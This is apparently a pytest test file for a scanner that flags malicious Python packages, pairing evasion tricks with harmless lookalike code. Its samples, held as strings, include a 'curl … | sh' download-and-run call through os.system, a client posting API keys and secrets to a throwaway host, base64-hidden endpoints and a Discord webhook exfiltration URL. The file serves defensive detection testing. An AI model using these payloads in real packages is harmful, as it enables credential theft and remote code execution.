"""Evasions found on the forward-in-time misses (issue 18): each trick beside the
ordinary code it must not be confused with. Nothing here is ever run."""

from __future__ import annotations

import pytest

from detector.code.prefix import MAX_ATTEMPTS, error_line, parse_prefix
from detector.code.scan import scan_files

SPAWN = "os.system('curl http://203.0.113.7/x | sh')\n"
CLIENT = '''import requests


class Client:
    def __init__(self, key, secret):
        self.key, self.secret = key, secret
        data = {"ak": key, "sk": secret}
        requests.post("https://api.sdk-mirror.xyz/c", json=data)

    def list(self):
        return requests.get(URL, params={"page": 1})

    def delete(self, item):
        """Delete one item.
'''


def rules(files: dict[str, str]) -> set[str]:
    return {f.rule for f in scan_files(files).findings}


# (files, rules that must be found, rules that must not)
CASES = {
    # one syntax error at the end no longer hides what parses before it
    "payload then a python-2 line": (
        {"pkg/__init__.py": "import os\n" + SPAWN + "print 'done'\n"},
        {"process-spawn", "shell-download-exec", "unparsable-python"}, set()),
    "file cut short inside a class keeps its whole methods": (
        {"pkg/__init__.py": "from .client import Client\n", "pkg/client.py": CLIENT},
        {"throwaway-host-call", "network-call"}, set()),
    "python 2 module, nothing hidden": (
        {"pkg/__init__.py": "import os\nprint 'hello'\nx = os.path.join('a', 'b')\n"},
        {"unparsable-python"}, {"process-spawn", "network-call"}),
    # a module attribute bound to a name is called through that name
    "os.system through a name": (
        {"setup.py": "import os\nrun = os.system\nrun('curl http://203.0.113.7/x | sh')\n"},
        {"process-spawn", "shell-download-exec"}, set()),
    "urlopen chosen by Python version": (
        {"setup.py": "import sys\nif sys.version_info[0] == 3:\n    import urllib.request\n"
                     "    GET = urllib.request.urlopen\nelse:\n    import urllib2\n"
                     "    GET = urllib2.urlopen\nGET('http://198.51.100.4/r', data)\n"},
        {"network-call"}, set()),
    "os.path.join through a name": (
        {"setup.py": "import os\njoin = os.path.join\nprint(join('a', 'b'))\n"},
        set(), {"process-spawn", "network-call"}),
    # where a network call goes
    "session object posting to a throwaway host": (
        {"setup.py": "import requests\ns = requests.Session()\n"
                     "s.request(url='https://api.sdk-mirror.xyz/a', method='POST', json=d)\n"},
        {"throwaway-host-call"}, set()),
    "session object posting to an ordinary host": (
        {"setup.py": "import requests\ns = requests.Session()\n"
                     "s.post('https://api.example.com/v1/items', json=d)\n"},
        set(), {"throwaway-host-call"}),
    "a dict lookup with a .xyz key is not a request": (
        {"setup.py": "mirrors = {}\nm = mirrors.get(name)\nDOC = 'https://a.b.xyz/docs'\n"},
        set(), {"throwaway-host-call"}),
    "address decoded at run time": (
        {"pkg/__init__.py": "import base64, requests\n"
                            "requests.get(base64.b64decode(KEY).decode() + wallet)\n"},
        {"hidden-endpoint"}, set()),
    "address from configuration": (
        {"pkg/__init__.py": "import os, requests\nrequests.get(os.environ['API_URL'])\n"},
        set(), {"hidden-endpoint"}),
    "an address decoded elsewhere in the file is not followed": (
        {"pkg/__init__.py": "from urllib.request import urlopen\n"
                            "def body(r):\n    url = r.read().decode()\n    return url\n"
                            "def fetch(url):\n    return urlopen(url)\n"},
        {"network-call"}, {"hidden-endpoint"}),
    # obfuscator fingerprints in parsed code
    "obfuscator's dunder name": (
        {"pkg/__init__.py": "__VareObfuscator__ = ''\nx = 1\n"},
        {"obfuscator-marker"}, set()),
    "a function that obfuscates passwords": (
        {"pkg/__init__.py": "def obfuscate(password):\n    return '*' * len(password)\n"
                            "__all__ = ['obfuscate']\n"},
        set(), {"obfuscator-marker"}),
}


@pytest.mark.parametrize("case", sorted(CASES))
def test_case(case):
    files, must, must_not = CASES[case]
    found = rules(files)
    assert must <= found, f"missing {must - found}"
    assert not (must_not & found), f"unexpected {must_not & found}"


def test_prefix_findings_keep_file_line_numbers():
    text = "import os\n" + SPAWN + "print 'x'\nu = 'https://discord.com/api/webhooks/1/a'\n"
    found = scan_files({"pkg/__init__.py": text}).findings
    lines = {f.rule: f.line for f in found}
    assert lines["process-spawn"] == 2
    assert lines["exfil-url"] == 4  # text rules after the prefix, at the file's line
    unparsable = next(f for f in found if f.rule == "unparsable-python")
    assert "syntax error at line 3; lines 1-2 parsed" in unparsable.evidence


def test_prefix_lines_are_numbered_as_python_numbers_them():
    # a form feed is not a line break for Python (str.splitlines would count one)
    text = "import os\n\x0c\n" + SPAWN + "print 'x'\nu = 'https://discord.com/api/webhooks/1/a'\n"
    lines = {f.rule: f.line for f in scan_files({"pkg/__init__.py": text}).findings}
    assert lines["process-spawn"] == 3 and lines["exfil-url"] == 5


@pytest.mark.parametrize(("text", "lines"), [
    ("x = 1\ny = (\n", 1),                                  # bracket never closed
    ("class A:\n    def f(self):\n        return 1\n    def g(self):\n", 3),
    ("def f():\n    try:\n        if x:\n            y = (\n", None),  # nothing whole
    ("print 'a'\n", None),
])
def test_parse_prefix_cuts_at_statements(text, lines):
    first = error_line(text)
    assert first is not None
    prefix = parse_prefix(text, first)
    assert (prefix.lines if prefix else None) == lines


def test_parse_prefix_attempts_are_bounded():
    # every cut leaves another unclosed block: the search gives up after MAX_ATTEMPTS
    text = "".join(f"{'    ' * i}if x{i}:\n" for i in range(40))
    attempts = []
    assert parse_prefix(text, error_line(text) or 1, lambda: attempts.append(1)) is None
    assert len(attempts) <= MAX_ATTEMPTS


def test_parse_prefix_text_is_capped():
    # a big file: the cuts may parse at most max_cost (here characters) in all
    text = "x = 1\n" * 50_000 + "print 'end'\n"
    attempts = []
    found = parse_prefix(text, error_line(text) or 1, lambda: attempts.append(1),
                         max_cost=len(text) // 2)
    assert found is None and attempts == []
    assert parse_prefix(text, error_line(text) or 1, max_cost=len(text)).lines == 50_000


def test_prefix_of_parsing_file_is_not_needed():
    assert error_line("x = 1\n") is None
